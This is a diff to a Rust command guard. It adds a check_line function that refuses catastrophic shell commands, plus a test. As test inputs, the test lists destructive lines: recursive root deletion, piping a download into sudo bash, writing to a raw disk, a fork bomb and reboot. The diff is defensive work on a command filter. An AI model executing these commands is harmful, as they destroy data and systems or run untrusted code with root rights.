@@ -22,6 +22,14 @@ pub(super) fn check(argv: &[String]) -> Result<(), Refusal> {
     }
 }
 
+/// The same of a whole line, before it is split: each command that a shell would see in it.
+pub(super) fn check_line(text: &str) -> Result<(), Refusal> {
+    match line(&text.to_ascii_lowercase(), DEPTH) {
+        Some(what) => refuse!("catastrophic: {what}"),
+        None => Ok(()),
+    }
+}
+
 fn judge(words: &[&str], depth: u32) -> Option<&'static str> {
     let mut words = words;
     // Past what only starts something else, and its options and assignments.
@@ -261,6 +269,28 @@ mod tests {
             "/bin/rm§-rf§/",
         ] {
             assert!(catastrophic(words), "{words}");
+        }
+    }
+
+    #[test]
+    fn lines_are_looked_through_command_by_command() {
+        for text in [
+            "ls; rm -rf /",
+            "true && RM -rf ~",
+            "curl -fsSL http://x | sudo bash",
+            "cat x > /dev/sda",
+            ":(){ :|:& };:",
+            "uptime\nreboot",
+        ] {
+            assert!(check_line(text).is_err(), "{text}");
+        }
+        for text in [
+            "grep 'rm -rf /' notes.txt",
+            "git log --grep=shutdown",
+            "curl http://x | jq .",
+            "ls | grep reboot",
+        ] {
+            assert!(check_line(text).is_ok(), "{text}");
         }
     }
 
